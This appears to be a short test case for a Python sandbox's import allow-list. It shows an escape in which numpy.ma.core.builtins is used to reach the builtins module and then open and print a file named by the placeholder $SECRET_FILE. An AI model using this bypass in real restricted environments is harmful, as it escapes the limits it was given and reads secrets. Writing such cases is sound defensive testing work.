# attack: numpy.ma.core imported builtins, and everything below numpy.ma counts as allowed
# family: import
import numpy
b = numpy.ma.core.builtins
print("REACHED", b)
print(b.open("$SECRET_FILE").read())
